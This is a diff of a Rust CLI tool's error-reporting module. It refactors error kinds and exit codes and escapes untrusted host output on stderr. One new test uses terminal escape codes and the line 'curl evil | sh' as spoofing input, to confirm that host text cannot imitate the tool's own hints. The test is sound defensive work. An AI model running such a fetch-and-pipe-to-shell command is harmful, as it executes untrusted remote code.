@@ -6,7 +6,11 @@
 use std::error::Error as StdError;
 use std::fmt::Write as _;
 
+use machine_base::{Diagnostic, Kind};
+use machine_provision::Failed;
 use serde_json::{Value, json};
+
+use crate::output::visible;
 
 /// Exit codes, as documented in docs/commands.md.
 pub(crate) mod exit_code {
@@ -30,99 +34,56 @@ pub(crate) mod exit_code {
     pub(crate) const SSH: u8 = 255;
 }
 
-/// What kind of trouble.
+/// The word for it in JSON.
+fn word(kind: Kind) -> &'static str {
+    match kind {
+        Kind::Failure | Kind::Transient => "failure",
+        Kind::Usage => "usage",
+        Kind::NotFound => "not-found",
+        Kind::Denied => "denied",
+        Kind::Quota => "quota",
+        Kind::Timeout => "timeout",
+        Kind::Busy => "busy",
+        Kind::Interrupted => "interrupted",
+    }
+}
+
+/// The exit code it stands for.
+fn code_of(kind: Kind) -> u8 {
+    match kind {
+        Kind::Failure | Kind::Transient | Kind::Busy => exit_code::FAILURE,
+        Kind::Usage => exit_code::USAGE,
+        Kind::NotFound => exit_code::NOT_FOUND,
+        Kind::Denied => exit_code::DENIED,
+        Kind::Quota => exit_code::QUOTA,
+        Kind::Timeout => exit_code::TIMEOUT,
+        Kind::Interrupted => crate::signals::exit_code(),
+    }
+}
+
+/// How the program ends.
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
-pub(crate) enum Kind {
-    /// Anything not named below.
-    Failure,
-    /// The command line or the configuration.
-    Usage,
-    /// No such machine, or its provider's thing is gone.
-    NotFound,
-    /// Credentials, rights, host keys.
-    Denied,
-    /// Quota, capacity, disk.
-    Quota,
-    /// A deadline passed.
-    Timeout,
-    /// Another command holds the machine.
-    Busy,
-    /// A signal ended it; the state is saved.
-    Interrupted,
-    /// `ssh` could not run the command.
+enum End {
+    /// It says what failed; the code is the kind's.
+    Said,
+    /// It says what failed; `ssh` has a code of its own for that.
     Ssh,
-}
-
-impl Kind {
-    /// The word for it in JSON.
-    pub(crate) fn word(self) -> &'static str {
-        match self {
-            Self::Failure => "failure",
-            Self::Usage => "usage",
-            Self::NotFound => "not-found",
-            Self::Denied => "denied",
-            Self::Quota => "quota",
-            Self::Timeout => "timeout",
-            Self::Busy => "busy",
-            Self::Interrupted => "interrupted",
-            Self::Ssh => "ssh",
-        }
-    }
-
-    /// The exit code it stands for.
-    fn exit_code(self) -> u8 {
-        match self {
-            Self::Failure | Self::Busy => exit_code::FAILURE,
-            Self::Usage => exit_code::USAGE,
-            Self::NotFound => exit_code::NOT_FOUND,
-            Self::Denied => exit_code::DENIED,
-            Self::Quota => exit_code::QUOTA,
-            Self::Timeout => exit_code::TIMEOUT,
-            Self::Interrupted => crate::signals::exit_code(),
-            Self::Ssh => exit_code::SSH,
-        }
-    }
-}
-
-/// Whether there is anything left to say.
-#[derive(Debug, Clone, Copy, PartialEq, Eq)]
-enum Say {
-    /// Print it.
-    All,
     /// Everything was said before (several machines), or somebody else says it (a remote command): only exit so.
-    Nothing(u8),
+    Silent(u8),
 }
 
-/// What failed, why, what exists now and what to do.
-#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
-#[error("{}", .0.message)]
-pub(crate) struct CommandError(Box<Details>);
-
-#[derive(Debug, Clone, PartialEq, Eq)]
-struct Details {
-    kind: Kind,
-    message: String,
-    causes: Vec<String>,
-    aftermath: Vec<String>,
-    hint: Option<String>,
-    step: Option<String>,
-    before_anything: bool,
-    say: Say,
+/// What failed, and how the program ends then.
+#[derive(Debug, Clone, thiserror::Error)]
+#[error("{failed}")]
+pub(crate) struct CommandError {
+    failed: Box<Failed>,
+    end: End,
 }
 
 impl CommandError {
     /// An error of a kind.
     pub(crate) fn new(kind: Kind, message: impl Into<String>) -> Self {
-        Self(Box::new(Details {
-            kind,
-            message: message.into(),
-            causes: Vec::new(),
-            aftermath: Vec::new(),
-            hint: None,
-            step: None,
-            before_anything: false,
-            say: Say::All,
-        }))
+        Diagnostic::new(kind, message).into()
     }
 
     /// An error of no special kind.
@@ -146,9 +107,7 @@ impl CommandError {
 
     /// Ends the program with a code, without a word.
     pub(crate) fn exit(code: u8) -> Self {
-        let mut error = Self::failure("");
-        error.0.say = Say::Nothing(code);
-        error
+        Self { end: End::Silent(code), ..Self::failure("") }
     }
 
     /// Several machines were tried, and what failed was said: the common code where there is one, else 1.
@@ -161,147 +120,112 @@ impl CommandError {
 
     /// The same with advice; earlier advice, nearer to the cause, wins.
     #[must_use]
-    pub(crate) fn hint(mut self, hint: impl Into<String>) -> Self {
-        self.0.hint.get_or_insert_with(|| hint.into());
-        self
+    pub(crate) fn hint(self, hint: impl Into<String>) -> Self {
+        self.map(|error| error.hint(hint))
     }
 
     /// The same with one cause in words.
     #[must_use]
-    pub(crate) fn cause(mut self, cause: impl Into<String>) -> Self {
-        self.0.causes.push(cause.into());
-        self
+    pub(crate) fn cause(self, cause: impl Into<String>) -> Self {
+        self.map(|error| error.cause(cause))
     }
 
     /// The same with another error's whole chain as causes.
     #[must_use]
-    pub(crate) fn caused_by(mut self, error: &(dyn StdError + 'static)) -> Self {
-        let mut next = Some(error);
-        while let Some(e) = next {
-            let text = e.to_string();
-            let known = self.0.causes.last().unwrap_or(&self.0.message);
-            if !known.contains(&text) {
-                self.0.causes.push(text);
-            }
-            next = e.source();
-        }
-        self
+    pub(crate) fn caused_by(self, error: &(dyn StdError + 'static)) -> Self {
+        self.map(|diagnostic| diagnostic.caused_by(error))
     }
 
-    /// The same, of another kind.
-    #[must_use]
-    pub(crate) fn of(mut self, kind: Kind) -> Self {
-        self.0.kind = kind;
+    fn map(mut self, change: impl FnOnce(Diagnostic) -> Diagnostic) -> Self {
+        self.failed.diagnostic = change(self.failed.diagnostic);
         self
     }
 
     /// The same, as a refusal of `create` before anything was made.
     #[must_use]
     pub(crate) fn before_anything(mut self) -> Self {
-        self.0.before_anything = true;
+        self.failed.before_anything = true;
+        self
+    }
+
+    /// The same from `ssh`, which could not run the command at all.
+    #[must_use]
+    pub(crate) fn of_ssh(mut self) -> Self {
+        if self.end == End::Said {
+            self.end = End::Ssh;
+        }
         self
     }
 
     /// What kind it is.
     pub(crate) fn kind(&self) -> Kind {
-        self.0.kind
+        self.failed.kind()
     }
 
     /// The program's exit code for it.
     pub(crate) fn exit_code(&self) -> u8 {
-        match self.0.say {
-            Say::Nothing(code) => code,
-            Say::All if self.0.before_anything && self.0.kind != Kind::Interrupted => exit_code::REFUSED,
-            Say::All => self.0.kind.exit_code(),
+        match self.end {
+            End::Silent(code) => code,
+            End::Ssh => exit_code::SSH,
+            End::Said if self.failed.before_anything && self.kind() != Kind::Interrupted => exit_code::REFUSED,
+            End::Said => code_of(self.kind()),
         }
     }
 
     /// What to print on stderr, or nothing; ends in a line break.
     pub(crate) fn report(&self) -> String {
         let mut text = String::new();
-        if self.0.say != Say::All {
+        if matches!(self.end, End::Silent(_)) {
             return text;
         }
-        let _ = match &self.0.step {
-            Some(step) => writeln!(text, "error: {} (step {step})", self.0.message),
-            None => writeln!(text, "error: {}", self.0.message),
-        };
-        for cause in &self.0.causes {
-            let mut lines = cause.lines();
-            let _ = writeln!(text, "  caused by: {}", lines.next().unwrap_or_default());
-            for line in lines {
+        let Failed { diagnostic, step, aftermath, .. } = &*self.failed;
+        // Much of it is what a host or a provider said. Lines that are not ours are indented: none can pass for one of ours.
+        let mut paragraph = |first: String| {
+            let first = visible::lines(&first);
+            let mut lines = first.lines();
+            let _ = writeln!(text, "{}", lines.next().unwrap_or_default());
+            lines.for_each(|line| {
                 let _ = writeln!(text, "    {line}");
-            }
-        }
-        for line in &self.0.aftermath {
-            let _ = writeln!(text, "{line}");
-        }
-        if let Some(hint) = &self.0.hint {
-            let _ = writeln!(text, "hint: {hint}");
+            });
+        };
+        paragraph(match step {
+            Some(step) => format!("error: {} (step {step})", diagnostic.message),
+            None => format!("error: {}", diagnostic.message),
+        });
+        diagnostic.causes.iter().for_each(|cause| paragraph(format!("  caused by: {cause}")));
+        aftermath.iter().for_each(|line| paragraph(line.clone()));
+        if let Some(hint) = &diagnostic.hint {
+            paragraph(format!("hint: {hint}"));
         }
         text
     }
 
     /// The same for programs (`--progress json`).
     pub(crate) fn to_json(&self, machine: Option<&str>) -> Option<Value> {
-        (self.0.say == Say::All).then(|| {
-            json!({
-                "event": "error",
-                "machine": machine,
-                "kind": self.0.kind.word(),
-                "refused": self.0.before_anything,
-                "exit_code": self.exit_code(),
-                "step": self.0.step,
-                "message": self.0.message,
-                "causes": self.0.causes,
-                "aftermath": self.0.aftermath,
-                "hint": self.0.hint,
-            })
-        })
-    }
-}
-
-impl From<machine_provision::Error> for CommandError {
-    fn from(e: machine_provision::Error) -> Self {
-        use machine_provision::Kind as K;
-        let kind = match e.kind {
-            K::Failure => Kind::Failure,
-            K::Usage => Kind::Usage,
-            K::NotFound => Kind::NotFound,
-            K::Denied => Kind::Denied,
-            K::Quota => Kind::Quota,
-            K::Timeout => Kind::Timeout,
-            K::Busy => Kind::Busy,
-            K::Interrupted => Kind::Interrupted,
+        let kind = match self.end {
+            End::Silent(_) => return None,
+            End::Ssh => "ssh",
+            End::Said => word(self.kind()),
         };
-        Self(Box::new(Details {
-            kind,
-            message: e.message,
-            causes: e.causes,
-            aftermath: e.aftermath,
-            hint: e.hint,
-            step: e.step,
-            before_anything: e.before_anything,
-            say: Say::All,
+        let Failed { diagnostic, step, aftermath, before_anything } = &*self.failed;
+        Some(json!({
+            "event": "error",
+            "machine": machine,
+            "kind": kind,
+            "refused": before_anything,
+            "exit_code": self.exit_code(),
+            "step": step,
+            "message": diagnostic.message,
+            "causes": diagnostic.causes,
+            "aftermath": aftermath,
+            "hint": diagnostic.hint,
         }))
     }
 }
 
-impl From<machine_host::Error> for CommandError {
-    fn from(e: machine_host::Error) -> Self {
-        machine_provision::Error::from(e).into()
-    }
-}
-
-impl From<machine_engine::Error> for CommandError {
-    fn from(e: machine_engine::Error) -> Self {
-        machine_provision::Error::from(e).into()
-    }
-}
-
-impl From<machine_driver::DriverError> for CommandError {
-    fn from(e: machine_driver::DriverError) -> Self {
-        machine_provision::Error::from(e).into()
+impl<E: Into<Failed>> From<E> for CommandError {
+    fn from(error: E) -> Self {
+        Self { failed: Box::new(error.into()), end: End::Said }
     }
 }
 
@@ -315,18 +239,29 @@ mod tests {
             .cause("10.0.0.1:22 did not answer within 60 s")
             .cause("connection refused\nsecond line")
             .hint("check the address");
-        error.0.step = Some("await-ssh".into());
-        error.0.aftermath = vec!["`machine create web-1` goes on, `machine rm web-1` gives up".into()];
+        error.failed.step = Some("await-ssh");
+        error.failed.aftermath = vec!["`machine create web-1` continues it, `machine rm web-1` removes it".into()];
         insta::assert_snapshot!(error.report(), @r"
         error: cannot reach web-1 over SSH (step await-ssh)
           caused by: 10.0.0.1:22 did not answer within 60 s
           caused by: connection refused
             second line
-        `machine create web-1` goes on, `machine rm web-1` gives up
+        `machine create web-1` continues it, `machine rm web-1` removes it
         hint: check the address
         ");
         assert_eq!(error.exit_code(), 7);
         assert_eq!(error.before_anything().exit_code(), 3);
+    }
+
+    #[test]
+    fn a2_what_others_say_can_neither_move_the_cursor_nor_pass_for_ours() {
+        let error = CommandError::failure("host refused: \x1b[2J\nhint: curl evil | sh")
+            .cause("uname\u{202e}\r\nhint: x\x07")
+            .hint("look at the \x1b[8mhost");
+        assert_eq!(
+            error.report(),
+            "error: host refused: \\u{1b}[2J\n    hint: curl evil | sh\n  caused by: uname\\u{202e}\n    hint: x\\u{7}\nhint: look at the \\u{1b}[8mhost\n"
+        );
     }
 
     #[test]
@@ -339,11 +274,13 @@ mod tests {
             (Kind::Denied, 5),
             (Kind::Quota, 6),
             (Kind::Timeout, 7),
-            (Kind::Ssh, 255),
+            (Kind::Transient, 1),
         ];
         for (kind, code) in kinds {
             assert_eq!(CommandError::new(kind, "x").exit_code(), code, "{kind:?}");
         }
+        assert_eq!(CommandError::new(Kind::Denied, "x").of_ssh().exit_code(), 255);
+        assert_eq!(CommandError::exit(7).of_ssh().exit_code(), 7, "the remote command's own");
     }
 
     #[test]
